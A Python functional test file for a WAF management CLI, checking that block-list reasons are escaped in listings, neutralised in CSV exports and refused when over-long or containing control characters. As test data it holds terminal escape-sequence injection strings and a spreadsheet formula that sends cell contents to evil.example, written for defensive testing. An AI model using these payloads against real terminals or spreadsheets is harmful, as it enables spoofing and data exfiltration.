"""Reasons cannot attack the terminal or a spreadsheet: `waf list` shows control characters and rich markup
literally, `waf export` neutralises formulas, and over-long or control-character reasons are refused at input."""

from __future__ import annotations

import csv
import io

from tests.functional.waf.conftest import write_config

HOSTILE = "\x1b]0;owned\x07\x1b[2J\x1b[H[link=http://evil.example]click[/link]"


def _seed_hostile_entry(world) -> None:
    """An entry whose reason came from elsewhere (an older version, another tool): stored as is."""
    world.put_addresses("block", "v4", ["203.0.113.7/32"])
    world.aws.client("dynamodb").put_item(TableName="staging-candlefish-waf-ledger", Item={
        "pk": {"S": "block#v4"}, "sk": {"S": "203.0.113.7/32"}, "kind": {"S": "block"}, "version": {"S": "v4"},
        "address": {"S": "203.0.113.7/32"}, "status": {"S": "active"}, "reason": {"S": HOSTILE},
        "added_by": {"S": "arn:aws:iam::123456789012:user/\x1b[8mghost"}, "added_at": {"S": "2026-01-01T00:00:00Z"},
        "origin": {"S": "candlefish"}, "updated_at": {"S": "2026-01-01T00:00:00Z"}})


def test_list_shows_control_characters_and_markup_literally(world, waf_cli, monkeypatch):
    monkeypatch.setenv("COLUMNS", "300")  # one table row per line
    _seed_hostile_entry(world)
    result = waf_cli("list", "staging")
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    [row] = [line for line in result.stdout.splitlines() if "203.0.113.7/32" in line]
    assert "\\x1b]0;owned\\x07\\x1b[2J\\x1b[H[link=http://evil.example]click[/link]" in row
    assert "user/\\x1b[8mghost" in row
    assert waf_cli("list", "staging", "--output", "json").json()["entries"][0]["reason"] == HOSTILE  # data intact


def test_export_neutralises_formulas(world, waf_cli):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    assert waf_cli("block-ip", "staging", "203.0.113.7", "--reason", formula).exit_code == 0
    assert waf_cli("block-ip", "staging", "198.51.100.1", "--reason", "@SUM(1+1)").exit_code == 0
    exported = waf_cli("export", "staging")
    assert exported.exit_code == 0, exported.stderr
    rows = {row["address"]: row for row in csv.DictReader(io.StringIO(exported.stdout))}
    assert rows["203.0.113.7/32"]["reason"] == "'" + formula
    assert rows["198.51.100.1/32"]["reason"] == "'@SUM(1+1)"


def test_long_or_control_character_reasons_are_refused_before_anything_changes(world, waf_cli, tmp_path):
    too_long = waf_cli("block-ip", "staging", "203.0.113.7", "--reason", "x" * 501)
    assert too_long.exit_code == 1 and too_long.stderr.count("\n") == 1
    assert "--reason: the reason is 501 characters long, at most 500" in too_long.stderr
    escape = waf_cli("block-ip", "staging", "203.0.113.7", "--reason", "\x1b[2Jhi")
    assert escape.exit_code == 1 and "control characters" in escape.stderr and "\x1b" not in escape.stderr
    file = tmp_path / "list.csv"
    file.write_text("address,reason\n198.51.100.1,fine\n198.51.100.2," + "y" * 600 + "\n", encoding="utf-8")
    imported = waf_cli("import", "staging", file)
    assert imported.exit_code == 1 and "list.csv line 3: the reason is 600 characters long" in imported.stderr
    assert world.addresses("block") == set() and world.ledger() == {}
